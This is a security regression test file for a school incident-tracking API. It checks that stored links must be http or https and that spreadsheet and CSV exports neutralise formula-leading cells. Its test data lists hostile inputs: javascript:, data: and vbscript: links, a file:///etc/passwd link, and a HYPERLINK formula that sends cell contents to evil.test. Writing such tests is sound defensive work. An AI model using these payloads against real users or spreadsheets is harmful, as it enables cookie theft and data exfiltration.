import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../helpers/app.ts";
import { client, createUser, login } from "../helpers/factories.ts";
import { type IncidentSchool, incidentSchool, registration } from "../helpers/incidents.ts";

/**
 * Issue 9, reproduction 8: `meeting_url: "javascript:…"` was stored and shown to families as a link, and
 * spreadsheet cells beginning with `=`, `+`, `-` or `@` were written as typed (a formula in the Director's copy).
 */
let t: TestApp;
let s: IncidentSchool;
beforeAll(async () => {
  t = await createTestApp();
  s = await incidentSchool(t.app, t.db);
});
afterAll(() => t.close());

const HOSTILE_LINKS = [
  "javascript:alert(document.cookie)",
  " JavaScript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.test/x",
  "https://meet.example.test/a\u0000b",
];

const workbookOf = async (payload: Buffer) => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  return workbook;
};

describe("links people type", () => {
  it("stores a meeting link only when it is http or https", async () => {
    const incident = await s.teacher.as({ method: "POST", url: "/api/incidents", payload: registration(s) });
    const url = `/api/incidents/${incident.json().data.incident.id}/meetings`;
    const meeting = (meeting_url: string) => ({
      scheduled_at: new Date(Date.now() + 86_400_000).toISOString(),
      mode: "online",
      meeting_url,
    });
    for (const link of HOSTILE_LINKS) {
      const res = await s.director.as({ method: "POST", url, payload: meeting(link) });
      expect(res.statusCode, link).toBe(422);
      expect(Object.keys(res.json().errors), link).toEqual(["meeting_url"]);
    }
    const ok = await s.director.as({ method: "POST", url, payload: meeting("https://meet.example.test/abc-defg") });
    expect(ok.statusCode).toBe(201);
    const id = ok.json().data.meeting.id;
    const patched = await s.director.as({
      method: "PATCH",
      url: `/api/parent-meetings/${id}`,
      payload: { meeting_url: "javascript:alert(1)" },
    });
    expect(patched.statusCode).toBe(422);
    const cleared = await s.director.as({
      method: "PATCH",
      url: `/api/parent-meetings/${id}`,
      payload: { meeting_url: "" },
    });
    expect(cleared.statusCode).toBe(200);
    expect(cleared.json().data.meeting.meeting_url).toBeNull();
  });

  it("keeps help videos to http and https links", async () => {
    const root = await createUser(t.db, { root: 1 });
    const asRoot = client(t.app, await login(t.app, root.email));
    for (const link of HOSTILE_LINKS) {
      const res = await asRoot({
        method: "POST",
        url: "/api/admin/help-videos",
        payload: { title: "Ayuda", video_url: link, screen_url: "/incidents" },
      });
      expect(res.statusCode, link).toBe(422);
    }
  });
});

describe("spreadsheets the server writes", () => {
  it("writes an incident detail that starts a formula as text with a leading apostrophe", async () => {
    const formula = '=HYPERLINK("https://evil.test/?d="&A1,"Ver")';
    const res = await s.teacher.as({
      method: "POST",
      url: "/api/incidents",
      payload: registration(s, { detail: formula, place: "@Patio" }),
    });
    expect(res.statusCode).toBe(201);
    const folio = res.json().data.incident.folio;

    const exported = await s.director.as({ method: "GET", url: "/api/incidents/export?sort=folio" });
    expect(exported.statusCode).toBe(200);
    const sheet = (await workbookOf(exported.rawPayload)).worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    let found: unknown[] | undefined;
    sheet.eachRow((row, n) => {
      const values = (row.values as unknown[]).slice(1);
      if (n > 1 && values[0] === folio) found = values;
    });
    expect(found).toBeDefined();
    const cell = (header: string) => found![headers.indexOf(header)];
    expect(cell("Detalle")).toBe(`'${formula}`);
    expect(cell("Lugar")).toBe("'@Patio");
    // A text cell, never a formula cell.
    sheet.eachRow((row) => {
      row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
    });
  });

  it("writes the school's own names in import templates as text, in XLSX and CSV", async () => {
    const profile = await s.director.as({ method: "POST", url: "/api/profiles", payload: { name: "=1+1" } });
    expect(profile.statusCode).toBe(201);
    const xlsx = await s.director.as({ method: "GET", url: "/api/imports/templates/users" });
    expect(xlsx.statusCode).toBe(200);
    const allowed = (await workbookOf(xlsx.rawPayload)).worksheets[1]!;
    const values: unknown[] = [];
    allowed.eachRow((row) => values.push(...(row.values as unknown[]).slice(1)));
    expect(values).toContain("'=1+1");
    expect(values).not.toContain("=1+1");

    const csv = await s.director.as({ method: "GET", url: "/api/imports/templates/users?format=csv" });
    expect(csv.statusCode).toBe(200);
    for (const line of csv.body.replace(/^\uFEFF/, "").split("\r\n"))
      for (const cell of line.split(",")) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
